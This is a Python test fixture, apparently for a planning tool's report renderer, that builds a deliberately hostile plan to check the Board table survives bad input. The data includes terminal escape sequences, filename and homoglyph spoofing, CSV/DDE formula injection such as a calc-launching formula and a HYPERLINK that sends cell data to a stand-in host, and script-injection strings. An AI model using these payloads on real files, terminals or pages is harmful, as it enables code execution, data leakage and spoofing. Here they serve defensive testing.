"""One deliberately nasty plan: everything that has ever broken a report, in one Board's table.

Built from models directly, so that what the door refuses (escape sequences, overrides) still has to
be survived here: a plan file may come from elsewhere.
"""

from __future__ import annotations

import datetime as dt

from ceplan.models.due import Due
from ceplan.models.item import (
    Brag,
    Evidence,
    Item,
    Lead,
    NextStep,
    ProgressPoint,
    Slip,
    Tick,
    Validation,
)
from ceplan.models.register import PlanFacts, Register
from ceplan.models.report import Report
from ceplan.reports.board import board

TODAY = dt.date(2014, 1, 21)

PLAN = PlanFacts(
    "p1", "Plan [bold]for[/bold] <b>Märchen & Co</b>", "Council | of 日本語", "OFFICIAL-SENSITIVE"
)

MARKUP = (
    "[bold]x[/bold]",
    "[/]",
    "[/bold]",
    "x [/ y",
    "[",
    "[0] item",
    "[#ff0]hi",
    "[@click=app.quit]Quit[/]",
    "[link=file:///c:/x.exe]here[/link]",
    '[link="http://evil"]a[/link]',
    '{"a":[true,false]}',
    "[[b]]",
    "\\[b]x\\",
    "[$error]x",
    ":smile:",
    "$name %(x)s {0} {x!r}",
    "**b** <b>",
)
"""B01 to B17."""

CONTROL = (
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\x1b]52;c;cHduZWQ=\x1b\\",
    "\x1b]8;;http://e\x1b\\l",
    "\x9b31m",
    "a\x00b",
    "bell\x07 back\x08",
    "good\revil",
    "del\x7f",
    "\x1bPdcs \x1b_apc and on",
    "tab\tbed",
    "line\u2028para\u2029end",
)
"""B18 to B29."""

UNICODE = (
    "\u202egpj.exe",
    "\u2066iso\u2069",
    "a\u200bb",
    "Zoe\u0308 and Zoë",
    "Pаrk",
    "👨‍👩‍👧‍👦 family",
    "e" + "\u0301" * 200,
    "lone \ud800 half",
    "non \ufffe char",
    "\ufeffBOM",
    "محمد وليد and שרה",
    "２０２６",
    "İstanbul Straße",
    "日本語の長い文章です。" * 12,
)
"""B31 to B44."""

FORMULAS = (
    "=1+1",
    "+44 1962 840222",
    "-5",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1",
    " =1",
    "＝1",
    '=HYPERLINK("http://e/?"&A1)',
    "＠x",
)
"""B46 to B53."""

EXPORTS = (
    "<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "]]>",
    "&x; &amp; &#60;",
    "a|b\nc|d",
    "# heading",
    "1. one",
    "- dash",
    "+ plus",
    "> quote",
    "https://example.org www.example.org a@b.org",
    "~~x~~ `code` _em_ ![img](x)",
    " leading and trailing ",
)
"""B55 to B57 and Markdown's own."""

WORDS = " ".join(f"word{n}" for n in range(300))


def _items(register: Register, prefix: str, texts: tuple[str, ...]) -> list[Item]:
    """One item for each text, with the text in every place that takes one."""
    return [
        Item(
            id=f"{prefix}{n}",
            register=register.id,
            ref=f"{prefix}{n}",
            action=text,
            progress=(ProgressPoint("p", text), ProgressPoint("q", text, dt.date(2014, 1, 14))),
            next_steps=(NextStep("s", text, Due(text), text),),
        )
        for n, text in enumerate(texts, 1)
    ]


def _evidence(*states: str) -> tuple[Evidence, ...]:
    tick, test = Tick("Auditor", TODAY), Validation("Chair", TODAY, "sampled")
    made = {
        "named": Evidence("e", "audit"),
        "supplied": Evidence("e", "audit", supplied=tick),
        "validated": Evidence("e", "audit", supplied=tick, validated=test),
        "disputed": Evidence("e", "audit", supplied=tick, disputes=("supplied",)),
        "removed": Evidence("e", "audit", removed="removed by A, edited by B"),
    }
    return tuple(made[x] for x in states)


JUNE = Due("June 2013", dt.date(2013, 6, 30), "month")
APRIL = Due("30 April 2013", dt.date(2013, 4, 30), "day")
AHEAD = Due("9 July 2014", dt.date(2014, 7, 9), "day")


def _statuses(register: Register) -> list[Item]:
    """Every stage and BRAG, dues of every kind, slips, disputes, in three groups."""
    one = {"outcome": "o1", "outcome_ref": "1", "outcome_title": "Practice | [b]keeps[/b] =safe"}
    two = {"outcome": "o2", "outcome_ref": "2", "outcome_title": "=Challenge\nand impact"}
    rows: list[dict[str, object]] = [
        {"stage": "not started", "due": JUNE, **one},
        {"stage": "in progress", "brag": Brag("red", reason="no staff"), "due": JUNE, **one},
        {"stage": "in progress", "brag": Brag("amber", "to green", "hired"), "due": AHEAD, **two},
        {
            "stage": "in progress",
            "brag": Brag("amber", "to red"),
            "due": Due("TBA", None, "to be agreed"),
            **one,
        },
        {
            "stage": "in progress",
            "brag": Brag("amber"),
            "due": Due("when the cows come home"),
            **one,
        },
        {"stage": "in progress", "brag": Brag("green", reason="=1+1"), "due": JUNE, **two},
        {
            "stage": "complete",
            "brag": Brag("blue"),
            "due": JUNE,
            "evidence": _evidence("named"),
            **one,
        },
        {"stage": "evidenced", "brag": Brag("blue"), "evidence": _evidence("validated"), **one},
        {"stage": "embedded", "brag": Brag("blue", reason="signed\noff"), **two},
        {"stage": "in progress", "brag": Brag("blue"), **one},
        {"stage": "complete", "brag": Brag("green"), **one},
        {"stage": "evidenced", **one},
        {
            "stage": "in progress",
            "due": JUNE,
            "slips": (Slip(APRIL, JUNE, "late", "A", "2013-04-01T00:00:00Z"),),
            "leads": (
                Lead("l", "Head of Safeguarding", "Council"),
                Lead("m", "Police", "", "contributor"),
            ),
            "evidence": _evidence("named", "supplied", "validated", "disputed", "removed"),
            "next_steps": (
                NextStep("s", "open, recovery", AHEAD, "Service Manager"),
                NextStep("t", "late", APRIL),
                NextStep("u", "finished", APRIL, "Chair", dt.date(2013, 5, 2)),
                NextStep("v", "argued", disputes=("text", "who")),
                NextStep("w", "contested", removed="removed by A, edited by B"),
            ),
            "progress": (
                ProgressPoint("p", "argued\ntwice", dt.date(2014, 1, 14), ("text", "dated")),
                ProgressPoint("q", "contested", removed="removed by A, edited by B"),
            ),
            "disputes": ("action", "brag", "due", "outcome", "ref", "source", "stage"),
            "removed": "removed by A, edited by B",
            **two,
        },
        {
            "due": Due("from April 2013", dt.date(2013, 4, 1), "from"),
            "leads": (Lead("m", "All partners", "", "contributor"),),
        },
        {"due": Due("16 April 2013 and continuing", dt.date(2013, 4, 16), "ongoing")},
        {
            "slips": tuple(Slip(None, None, "", "A", "") for _ in range(3)),
            "progress": (ProgressPoint("p", "See IN2"),),
            "next_steps": (NextStep("s", "See IN2"),),
        },
        {"disputes": ("due",), "due": Due("20 January 2014", dt.date(2014, 1, 20), "day")},
        {"progress": (ProgressPoint("p", WORDS), ProgressPoint("q", "W" * 400))},
    ]
    return [
        Item(
            **{
                "id": f"s{n}",
                "register": register.id,
                "ref": f"2.{n}",
                "action": f"Action {n}",
                **row,
            }
        )  # type: ignore[arg-type]
        for n, row in enumerate(rows, 1)
    ]


def registers() -> list[tuple[Register, list[Item]]]:
    """The registers of the nasty plan, the last one empty."""
    notice = Register("r1", "notice", "Notice [/] =cmd <i>")
    plan = Register("r2", "plan", "Single plan")
    empty = Register("r3", "recommendations", "Recommendations")
    texts = (*MARKUP, *CONTROL, *UNICODE, *FORMULAS, *EXPORTS)
    return [(notice, _items(notice, "IN", texts)), (plan, _statuses(plan)), (empty, [])]


def nasty() -> Report:
    """The Board's table of the nasty plan."""
    return board(PLAN, registers(), today=TODAY)
